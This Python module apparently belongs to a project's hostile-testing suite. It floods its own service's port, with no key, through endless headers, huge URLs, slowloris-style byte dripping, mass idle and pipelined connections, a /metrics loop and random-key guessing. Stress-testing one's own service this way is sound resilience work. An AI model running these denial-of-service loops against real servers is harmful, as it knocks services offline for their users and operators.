"""What anybody can do who reaches the port: no key is needed."""

import asyncio
import secrets

from evertick.domain.access import KEYSPACE, write_key
from hostile.attacks.context import AttackContext, read_body, read_status, repeat_forever, run_all

MB = 1_048_576
HELD_BYTES = 3


async def header_flood(context: AttackContext) -> None:
    """Heads that do not end."""
    line = b"X-Flood: " + b"a" * 1013 + b"\r\n"

    async def send() -> None:
        async with context.connection() as (reader, writer):
            writer.write(b"GET /livez HTTP/1.1\r\nHost: attacked\r\n")
            for _ in range(context.size(25, 100)):
                writer.write(line * 1024)
                await writer.drain()
                context.counts["sent MB"] += 1
            context.counts[await read_status(reader)] += 1
            await asyncio.sleep(5)

    await run_all(send() for _ in range(20))
    await asyncio.Event().wait()


async def long_url(context: AttackContext) -> None:
    """A URL that does not end."""

    async def send() -> None:
        async with context.connection() as (reader, writer):
            writer.write(b"GET /")
            for _ in range(context.size(50, 200)):
                writer.write(b"a" * MB)
                await writer.drain()
                context.counts["sent MB"] += 1
            writer.write(b" HTTP/1.1\r\nHost: attacked\r\n\r\n")
            context.counts[await read_status(reader)] += 1

    await run_all(send() for _ in range(4))
    await asyncio.Event().wait()


async def drip_after_refusal(context: AttackContext) -> None:
    """Bodies nobody asked for that go on, byte by byte, after the 401."""

    async def send() -> None:
        async with context.connection() as (reader, writer):
            writer.write(context.head("POST", "/api/v1/jobs", Content_Length=MB))
            context.counts[await read_status(reader)] += 1
            ending = asyncio.ensure_future(reader.read())
            while not ending.done():
                writer.write(b" ")
                await asyncio.wait([ending], timeout=0.5)
            context.counts["closed by the server"] += 1
            ending.exception()

    await run_all(send() for _ in range(context.size(100, 500)))
    await asyncio.Event().wait()


async def idle_connections(context: AttackContext) -> None:
    """Connections that say nothing, and come again when they are closed."""

    async def stay() -> None:
        async with context.connection() as (reader, _):
            context.counts["connected"] += 1
            await reader.read()

    await asyncio.gather(*(repeat_forever(stay) for _ in range(context.size(1200, 3000))))


async def slow_heads(context: AttackContext) -> None:
    """Heads that come byte by byte, again and again."""
    head = b"GET /livez HTTP/1.1\r\nHost: attacked\r\n" + b"X-Slow: a\r\n" * 1000

    async def drip() -> None:
        async with context.connection() as (_, writer):
            for place in range(len(head)):
                writer.write(head[place : place + 1])
                await writer.drain()
                await asyncio.sleep(0.5)
                context.counts["heads held"] += place == HELD_BYTES

    await asyncio.gather(*(repeat_forever(drip) for _ in range(context.size(500, 2000))))


async def pipelining(context: AttackContext) -> None:
    """Thousands of requests at once on a connection on which nothing is read, again and again."""
    requests = b"GET /livez HTTP/1.1\r\nHost: attacked\r\n\r\n" * 1000

    async def send() -> None:
        async with context.connection() as (_, writer):
            for _ in range(20):
                writer.write(requests)
                await writer.drain()
                context.counts["requests"] += 1000
            await asyncio.sleep(1)

    await asyncio.gather(*(repeat_forever(send) for _ in range(10)))


async def metrics_flood(context: AttackContext) -> None:
    """`/metrics` in a tight loop."""
    async with context.client() as client:
        client.headers.pop("Authorization")

        async def ask() -> None:
            context.count(await client.get(f"{context.address}/metrics"))

        await asyncio.gather(*(repeat_forever(ask) for _ in range(16)))


async def unknown_keys(context: AttackContext) -> None:
    """Keys of the right form that do not exist, each another one, on many connections."""

    async def ask() -> None:
        async with context.connection() as (reader, writer):
            while True:
                writer.write(context.head("GET", "/api/v1/jobs", write_key(secrets.randbelow(KEYSPACE))))
                context.counts[await read_status(reader)] += 1
                await read_body(reader)

    await asyncio.gather(*(repeat_forever(ask) for _ in range(context.size(500, 2000))))
